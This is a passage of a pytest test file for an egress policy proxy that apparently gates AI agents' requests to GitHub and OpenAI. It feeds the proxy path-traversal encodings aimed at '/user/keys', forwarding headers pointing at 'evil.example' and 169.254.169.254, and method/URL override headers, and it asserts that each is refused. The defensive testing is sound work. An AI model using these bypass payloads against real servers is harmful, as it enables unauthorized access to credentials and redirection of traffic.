    pytest.param(GITHUB, "coder-1", "/repos/%c0%ae%c0%ae/user/keys", id="egress-overlong-utf8"),
    pytest.param(GITHUB, "coder-1", "/repos//../user/keys", id="egress-empty-then-dot-dot"),
    pytest.param(GITHUB, "coder-1", "*", id="asterisk-form"),
    # [AH] IIS reads %u002e as "." (and %u0061 as "a"): refused, as any other reading is
    pytest.param(
        GITHUB, "coder-1", "/repos/a/%u002e%u002e/%u002e%u002e/user/keys", id="egress-iis-u-escapes"
    ),
    pytest.param(
        GITHUB, "coder-1", "/repos/a/%25u002e%25u002e/user/keys", id="egress-iis-u-escapes-encoded"
    ),
]


@pytest.mark.parametrize(("host", "agent", "path"), TRAVERSAL_ATTEMPTS)
def test_path_traversal_is_refused(env: Env, host: str, agent: str, path: str) -> None:
    """The policy decides on the path a server would route; a path that a server could read
    differently (dot segments, encoded separators) is refused, never forwarded."""
    m = mark()
    method = "POST" if host == OPENAI and agent == "bot" else "GET"
    body = chat("gpt-4o-mini", m) if method == "POST" else b""
    hs = bearer(env.token(agent)) + [("X-M", m)]
    with tunnel(env, host) as s:
        r = http1(s, request_bytes(method, path, host, hs, body, length=method == "POST"))
    assert refused(r), r.body
    assert_refused(env, m, r)


REDIRECT_HEADERS = [
    ("X-Forwarded-Host", "evil.example"),
    ("X-Forwarded-Proto", "http"),
    ("X-Forwarded-Port", "8080"),
    ("X-Forwarded-For", "169.254.169.254"),
    ("X-Real-IP", "127.0.0.1"),
    ("Forwarded", "for=127.0.0.1;host=evil.example;proto=http"),
    ("X-Original-Host", "evil.example"),
    ("X-Host", "evil.example"),
]


@pytest.mark.parametrize(("name", "value"), REDIRECT_HEADERS)
def test_forwarding_headers_change_nothing(env: Env, name: str, value: str) -> None:
    """map_remote (the operator's option) is the only redirect: the request still goes to the
    provider's stand-in at the same path, and the policy verdict is the same."""
    m = mark()
    with tunnel(env) as s:
        r = http1(
            s,
            request_bytes(
                "POST", CHAT, OPENAI, bearer(env.token()) + [(name, value)], chat("gpt-4o", m)
            ),
        )
    assert ours(r) and r.status == 403
    assert_refused(env, m, r)
    m = mark()
    with tunnel(env) as s:
        r = http1(
            s,
            request_bytes(
                "POST", CHAT, OPENAI, bearer(env.token()) + [(name, value)], chat("gpt-4o-mini", m)
            ),
        )
    assert r.status == 200, r.body
    (rec,) = env.standin_hits(m)
    assert rec.path == CHAT and rec.host == f"localhost:{env.si.port}"
    assert len(env.standin_hits(m)) == 1


OVERRIDE_HEADERS = [
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-HTTP-Method", "DELETE"),
    ("X-Method-Override", "DELETE"),
    ("X-Original-URL", "/user/keys"),
    ("X-Rewrite-URL", "/user/keys"),
]


@pytest.mark.parametrize(("name", "value"), OVERRIDE_HEADERS)
def test_method_and_url_override_headers_are_refused(env: Env, name: str, value: str) -> None:
    """Some servers honour these: a GET-only rule must not become a DELETE, nor a path rule
    another path."""
    m = mark()
    hs = bearer(env.token("coder-1")) + [(name, value), ("X-M", m)]
    with tunnel(env, GITHUB) as s:
        r = http1(s, request_bytes("GET", "/repos/a/b", GITHUB, hs, b"", length=False))
    assert ours(r) and r.status in (400, 403), r.body
    assert_refused(env, m, r)
